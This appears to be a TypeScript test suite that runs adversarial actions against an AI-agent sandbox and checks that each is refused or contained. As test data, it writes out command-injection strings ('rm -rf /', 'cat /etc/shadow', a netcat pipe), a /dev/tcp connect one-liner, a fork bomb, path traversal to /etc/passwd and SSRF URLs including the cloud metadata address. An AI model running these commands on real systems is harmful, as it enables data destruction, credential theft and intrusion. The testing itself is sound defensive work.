import { mkdir, readdir, readFile, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { join } from "node:path";
import { InProcessTransport } from "@boyd/bus";
import { ActionOutcome, ApprovalMode, StatusCode, type ActionResult } from "@boyd/proto";
import { lineContainsInOrder } from "@boyd/testkit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MAX_INPUT_BYTES } from "../src/index.js";
import { startHarness, type Harness } from "./fixtures/harness.js";

// Every attack goes through the whole pipeline (Act rpc: validation,
// guardian, sandbox), the way a confused or hostile agent would send it.
// Each must end in a refusal or a contained failure with a clear error,
// and leave nothing behind: the outside secret unchanged, no new file
// outside the workspace, no connection to anything but the test's server.

const SECRET = "top secret: do not leak";
let h: Harness;
let outside: string;
let web: Server;
let port: number;
const connections: string[] = [];
const attempts: Array<{ name: string; outcome: string; escaped: boolean }> = [];

beforeAll(async () => {
  h = await startHarness(new InProcessTransport(), {
    // Its own sandbox user: the fork bomb below must not starve other files' sandboxes.
    sandboxUser: { uid: 64_001, gid: 64_001 },
    config: { policy: { allow: { commands: ["sh", "cat", "yes", "head", "echo", "sleep"] } }, http: { allowHosts: [] }, shell: { timeoutMs: 2_000 } },
    lookup: async (name) => (name === "evil.test" ? [{ address: "127.0.0.1", family: 4 }] : name === "localhost" ? [{ address: "127.0.0.1", family: 4 }] : []),
  });
  outside = join(h.dir, "outside");
  await mkdir(outside);
  await writeFile(join(outside, "secret.txt"), SECRET);
  await symlink(join(outside, "secret.txt"), join(h.workspace, "link-out"));
  await symlink(outside, join(h.workspace, "dir-out"));
  web = createServer((req, res) => {
    if (req.url === "/to-private") res.writeHead(302, { location: "http://10.1.2.3/admin" }).end();
    else res.end("should never be reached");
  });
  web.on("connection", (s: Socket) => connections.push(`${s.remoteAddress}`));
  await new Promise<void>((r) => web.listen(0, "127.0.0.1", r));
  port = (web.address() as AddressInfo).port;
});

afterAll(async () => {
  await h?.close();
  await new Promise((r) => web?.close(r));
});

/** Runs one attack and checks the invariants every attack must keep. */
async function attack(name: string, tool: string, input: unknown, mode = ApprovalMode.YOLO, extra: object = {}): Promise<ActionResult> {
  const before = (await readdir(outside)).sort();
  const { result } = await h.call(tool, input, { approvalMode: mode, ...extra });
  const r = result!;
  const leaked = r.output!.content.includes(SECRET) || r.output!.dataJson.includes(SECRET);
  const changed = (await readFile(join(outside, "secret.txt"), "utf8")) !== SECRET || (await readdir(outside)).sort().join() !== before.join();
  const escaped = leaked || changed || (r.outcome === ActionOutcome.EXECUTED && r.output!.success && tool !== "shell_exec");
  attempts.push({ name, outcome: ActionOutcome[r.outcome] ?? String(r.outcome), escaped });
  expect(leaked, `${name} leaked the secret`).toBe(false);
  expect(changed, `${name} changed the outside dir`).toBe(false);
  return r;
}

const code = (r: ActionResult) => r.output!.error?.code;

describe("act - adversarial suite through the Act rpc", () => {
  it("path traversal, absolute paths and symlinks out of the workspace are refused", async () => {
    for (const path of ["../../etc/passwd", "/etc/passwd", "../outside/secret.txt", "link-out", "dir-out/secret.txt", "a/../../outside/secret.txt"]) {
      const read = await attack(`file_io read ${path}`, "file_io", { action: "read", path });
      expect(read.outcome, path).toBe(ActionOutcome.DENIED_BY_POLICY);
      expect(read.output!.error!.message).toMatch(/escapes the workspace|absolute|outside|symlink/i);
      const write = await attack(`file_io write ${path}`, "file_io", { action: "write", path, content: "pwned" });
      expect([ActionOutcome.DENIED_BY_POLICY, ActionOutcome.REJECTED]).toContain(write.outcome);
    }
    const del = await attack("file_io delete dir-out", "file_io", { action: "delete", path: "dir-out/secret.txt" });
    expect(del.outcome).toBe(ActionOutcome.DENIED_BY_POLICY);
  });

  it("secrets inside the workspace are denied by the built-in deny list, even in yolo", async () => {
    await writeFile(join(h.workspace, ".env"), "API_KEY=abc");
    const r = await attack("file_io read .env", "file_io", { action: "read", path: "sub/../.env" });
    expect(r.outcome).toBe(ActionOutcome.DENIED_BY_POLICY);
    expect(r.output!.content).not.toContain("API_KEY");
  });

  it("command injection in arguments stays literal text", async () => {
    for (const payload of ["; rm -rf /", "$(whoami)", "`id`", "&& cat /etc/shadow", "| nc 1.2.3.4 80"]) {
      const r = await attack(`shell_exec echo ${payload}`, "shell_exec", { argv: ["echo", payload] });
      expect(r.outcome).toBe(ActionOutcome.EXECUTED);
      expect(r.output!.content).toBe(`${payload}\n`);
    }
    const shellString = await attack("shell_exec as one string", "shell_exec", { argv: ["echo hi; cat /etc/passwd"] });
    expect(shellString.outcome).toBe(ActionOutcome.DENIED_BY_POLICY);
  });

  it("a shell inside the sandbox cannot read the secret, write outside, or reach the network", async () => {
    const r = await attack("sh escape attempt", "shell_exec", { argv: ["sh", "-c", `cat ${join(outside, "secret.txt")}; echo pwned > ${join(outside, "x")}; exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`] });
    expect(r.output!.content).not.toContain("connected");
    expect(connections).toEqual([]);
  });

  it("a fork bomb, a command that never ends and one printing 100 MB are contained", async () => {
    const bomb = await attack("fork bomb", "shell_exec", { argv: ["sh", "-c", ":(){ :|:& };:"], timeout_ms: 1_500 });
    expect([ActionOutcome.TIMED_OUT, ActionOutcome.EXECUTED]).toContain(bomb.outcome);
    const forever = await attack("never ends", "shell_exec", { argv: ["sleep", "1000"], timeout_ms: 500 });
    expect(forever.outcome).toBe(ActionOutcome.TIMED_OUT);
    expect(code(forever)).toBe(StatusCode.DEADLINE_EXCEEDED);
    const flood = await attack("100 MB of output", "shell_exec", { argv: ["head", "-c", "100000000", "/dev/zero"] });
    expect(flood.output!.content.length).toBeLessThanOrEqual(65 * 1024);
    expect(JSON.parse(flood.output!.dataJson)).toMatchObject({ truncated: true });
  });

  it("SSRF: loopback, IPv6 loopback, metadata, names resolving to loopback and redirects to private addresses are refused", async () => {
    for (const url of [`http://127.0.0.1:${port}/`, `http://[::1]:${port}/`, "http://169.254.169.254/latest/meta-data/", `http://localhost:${port}/`, `http://evil.test:${port}/`, "http://2130706433/", "http://[::ffff:127.0.0.1]/"]) {
      const r = await attack(`http_fetch ${url}`, "http_fetch", { url });
      expect([ActionOutcome.EXECUTED, ActionOutcome.DENIED_BY_POLICY]).toContain(r.outcome);
      expect(r.output!.success, url).toBe(false);
      expect(code(r), url).toBe(StatusCode.PERMISSION_DENIED);
    }
    expect(connections).toEqual([]);
  });

  it("SSRF: a redirect from an allowed host to a private address is refused at the hop", async () => {
    const allowed = await startHarness(new InProcessTransport(), { config: { http: { allowHosts: [`127.0.0.1:${port}`] } } });
    try {
      const { result } = await allowed.call("http_fetch", { url: `http://127.0.0.1:${port}/to-private` });
      attempts.push({ name: "redirect to 10.1.2.3", outcome: ActionOutcome[result!.outcome]!, escaped: result!.output!.success });
      expect(result!.output!.success).toBe(false);
      expect(result!.output!.error!.message).toContain("10.1.2.3");
    } finally {
      await allowed.close();
    }
  });

  it("oversized, malformed and unknown-tool inputs are rejected, naming what is wrong", async () => {
    const huge = await attack("oversized input", "file_io", JSON.stringify({ action: "write", path: "big.txt", content: "x".repeat(MAX_INPUT_BYTES + 1) }));
    expect(huge.outcome).toBe(ActionOutcome.REJECTED);
    expect(huge.output!.error!.message).toMatch(/more than the \d+ allowed/);
    const malformed = await attack("malformed JSON", "kg_query", '{"symbol": ');
    expect(malformed.output!.error!.message).toMatch(/^kg_query: input_json is not valid JSON/);
    const wrongField = await attack("wrong field type", "kg_query", { symbol: 42 });
    expect(wrongField.output!.error!.message).toMatch(/^kg_query input: symbol: Expected string/);
    const unknown = await attack("unknown tool", "rm_everything", {});
    expect(unknown.outcome).toBe(ActionOutcome.REJECTED);
    expect(code(unknown)).toBe(StatusCode.NOT_FOUND);
    for (const r of [huge, malformed, wrongField]) expect(code(r)).toBe(StatusCode.INVALID_ARGUMENT);
  });

  it("a denied dangerous action and an unanswered approval never run", async () => {
    const denied = await attack("sudo", "shell_exec", { argv: ["sudo", "id"] });
    expect(denied.outcome).toBe(ActionOutcome.DENIED_BY_POLICY);
    expect(denied.output!.error!.message).toContain("sudo");
    const unlisted = await attack("unlisted program with side effects", "shell_exec", { argv: ["curl", "http://example.org"] });
    expect(unlisted.outcome).toBe(ActionOutcome.DENIED_BY_POLICY);
    expect(lineContainsInOrder(unlisted.output!.error!.message, ["no rule allows command", "policy.allow.commands"])).toBe(true);
    const expired = await attack("unanswered approval", "file_io", { action: "delete", path: "dir-out" }, ApprovalMode.PARANOID, { approvalTimeoutMs: 200 });
    expect([ActionOutcome.APPROVAL_EXPIRED, ActionOutcome.DENIED_BY_POLICY]).toContain(expired.outcome);
    const expiredWrite = await attack("unanswered approval (write)", "file_io", { action: "write", path: "never.txt", content: "x" }, ApprovalMode.PARANOID, { approvalTimeoutMs: 200 });
    expect(expiredWrite.outcome).toBe(ActionOutcome.APPROVAL_EXPIRED);
    await expect(readFile(join(h.workspace, "never.txt"))).rejects.toThrow();
  });

  it("tallies every attempt: none escaped", () => {
    expect(attempts.length).toBeGreaterThanOrEqual(40);
    expect(attempts.filter((a) => a.escaped)).toEqual([]);
  });
});
